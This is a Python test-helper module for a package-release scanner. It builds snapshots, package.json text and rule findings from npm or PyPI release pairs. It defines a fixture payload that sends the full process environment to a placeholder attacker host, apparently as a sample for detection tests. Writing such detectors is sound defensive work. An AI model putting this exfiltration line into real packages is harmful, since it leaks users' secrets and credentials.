"""Small builders for installed-view tests: snapshots from dicts, release contexts, findings."""

from __future__ import annotations

import json

from watcher.models import ArtifactKind, Ecosystem, FileEntry, Finding, Snapshot
from watcher.pipeline import artifact_diff
from watcher.rules import ReleaseContext, run_rules

PAYLOAD = (
    "const https = require('https');\n"
    "https.request({ host: 'collect.attacker.invalid', method: 'POST' })"
    ".end(JSON.stringify(process.env));\n"
)


def snapshot(
    files: dict[str, str | bytes], kind: ArtifactKind = ArtifactKind.NPM_TARBALL
) -> Snapshot:
    """A snapshot holding these files (str is UTF-8 text)."""
    entries = {
        p: FileEntry.of(p, d.encode() if isinstance(d, str) else d) for p, d in files.items()
    }
    suffix = {"npm-tarball": ".tgz", "sdist": ".tar.gz", "wheel": "-py3-none-any.whl"}
    return Snapshot(f"x-1.0{suffix[kind.value]}", kind, entries)


def package_json(**fields: object) -> str:
    """A package.json text with a name and the given fields."""
    return json.dumps({"name": "x", "version": "1.0.0", **fields})


def findings(
    old: dict[str, str | bytes] | None,
    new: dict[str, str | bytes],
    kind: ArtifactKind = ArtifactKind.NPM_TARBALL,
) -> list[Finding]:
    """Every rule's findings for a release pair (old None: first release)."""
    diff = artifact_diff(snapshot(old, kind) if old is not None else None, snapshot(new, kind))
    ecosystem = Ecosystem.NPM if kind is ArtifactKind.NPM_TARBALL else Ecosystem.PYPI
    result, failures = run_rules(
        ReleaseContext(ecosystem, "x", "1.0.0" if old else None, "1.0.1", (diff,))
    )
    assert not failures, failures
    return result
